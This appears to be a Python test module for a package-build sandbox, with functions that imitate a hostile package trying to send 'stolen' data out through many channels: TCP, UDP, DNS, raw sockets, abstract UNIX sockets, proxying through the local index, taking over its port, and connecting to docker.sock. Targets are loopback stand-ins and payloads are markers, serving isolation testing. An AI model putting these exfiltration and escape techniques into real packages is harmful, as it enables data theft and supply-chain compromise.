"""Reaching out: while it is compiled, built and imported a package reaches the local index and nothing else."""

import contextlib
import socket

from hostile.places import ASKED_FOR, DATAGRAMS, TCP, UDP, local_index_ports


def _said(stage, way):
    return f"zz-egress {stage} {way}\n".encode()


def tcp(stage):
    """Sends what it stole over TCP."""
    with socket.create_connection(("127.0.0.1", TCP), 5) as line:
        line.sendall(_said(stage, "tcp"))
    return "sent"


def tcp_to_the_port_of_the_tests(stage):
    """The same to the port that tests may reach, and only they."""
    with socket.create_connection(("127.0.0.1", ASKED_FOR), 5) as line:
        line.sendall(_said(stage, "asked"))
    return None if stage == "test" else "sent"


def udp(stage):
    """Sends what it stole over UDP, with IPv4 and IPv6."""
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::ffff:127.0.0.1")):
        with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_DGRAM) as line:
            line.sendto(_said(stage, "udp"), (host, UDP))
            return "sent"
    raise PermissionError("udp")


def dns(stage):
    """Hides what it stole in a question to a name server."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDP) as line:
        line.connect(("127.0.0.1", UDP))
        line.send(_said(stage, "dns"))
    return "asked"


def other_ways_over_tcp(stage):
    """TCP Fast Open and multipath TCP, which connect without the call that rules look at."""
    ways = []
    with contextlib.suppress(OSError), socket.socket() as line:
        line.sendto(_said(stage, "fast-open"), 0x20000000, ("127.0.0.1", TCP))
        ways.append("fast open")
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as line:
        line.connect(("127.0.0.1", TCP))
        line.sendall(_said(stage, "multipath"))
        ways.append("multipath")
    return ways


def raw_packets(stage):
    """Raw, packet and other families of sockets."""
    opened = []
    for family, kind in (
        (socket.AF_INET, socket.SOCK_RAW),
        (socket.AF_PACKET, socket.SOCK_RAW),
        (socket.AF_VSOCK, socket.SOCK_STREAM),
        (38, socket.SOCK_SEQPACKET),
        (socket.AF_INET, 5),
    ):
        with contextlib.suppress(OSError), socket.socket(family, kind):
            opened.append(f"{family} {kind}")
    return opened


def abstract_socket(stage):
    """A local socket without a file, which no permission guards."""
    with socket.socket(socket.AF_UNIX) as line:
        line.connect("\0zz-abstract")
        line.sendall(_said(stage, "abstract"))
    return "sent"


def through_the_index(stage):
    """Uses the local index as a proxy: whole addresses, CONNECT, other hosts, writing methods."""
    loot = []
    for port in local_index_ports():
        for first in (
            "GET http://127.0.0.1:9000/zz HTTP/1.1\r\nHost: 127.0.0.1:9000",
            "CONNECT 127.0.0.1:9000 HTTP/1.1\r\nHost: 127.0.0.1:9000",
            f"PUT /live/simple/victim/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: 0",
            f"POST /files/x/victim-1.0-py3-none-any.whl HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: 0",
            "GET /live/simple/victim/ HTTP/1.1\r\nHost: rebound.example",
        ):
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 5) as line:
                line.sendall(f"{first}\r\nConnection: close\r\n\r\n".encode())
                answer = line.recv(300).decode(errors="replace")
                if " 2" in answer[:12]:
                    loot.append(first[:40])
    return loot


def listen_for_others(stage):
    """Takes the port of the local index, to serve its own files to the next install."""
    for port in local_index_ports():
        with contextlib.suppress(OSError), socket.socket() as line:
            line.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            line.setsockopt(socket.SOL_SOCKET, 15, 1)
            line.bind(("127.0.0.1", port))
            line.listen()
            return f"listens on {port}"
    return None


def another_address_at_the_port_of_the_index(stage):
    """Sends what it stole to another address at the very port of the local index, which a port rule lets through."""
    for port in local_index_ports():
        with contextlib.suppress(OSError), socket.socket() as place:
            place.bind(("127.0.0.77", port))  # stands for a host of the thief's
            place.listen()
            place.settimeout(5)
            with socket.create_connection(("127.0.0.77", port), 5) as line:
                line.sendall(b"zz")
                if place.accept()[0].recv(2) == b"zz":
                    return f"sent to 127.0.0.77:{port}" if stage != "test" else None
    return None


def datagrams_to_other_programs(stage):
    """Sends datagrams to UNIX sockets with a path, which needs no connection, by a socket and by one of a pair."""
    with open("/proc/net/unix") as table:
        paths = {line.split()[-1] for line in list(table)[1:] if len(line.split()) == 8}
    sent = []
    for path in {*(path for path in paths if path.startswith("/")), DATAGRAMS}:
        for make in (
            lambda: (socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM),),
            lambda: socket.socketpair(socket.AF_UNIX, 2),
        ):
            with contextlib.suppress(OSError):
                line, *_ = make()
                line.sendto(_said(stage, "datagram"), path)
                sent.append(path)
    return sent


def sockets_of_other_programs(stage):
    """Connects to every UNIX socket with a path: docker's, an agent's, a display's; whatever their permissions."""
    reached = []
    with open("/proc/net/unix") as table:
        paths = {line.split()[-1] for line in list(table)[1:] if len(line.split()) == 8}
    for path in {*paths, "/var/run/docker.sock"}:
        if path.startswith("/"):
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as line:
                line.settimeout(5)
                line.connect(path)
                reached.append(path)
    return reached
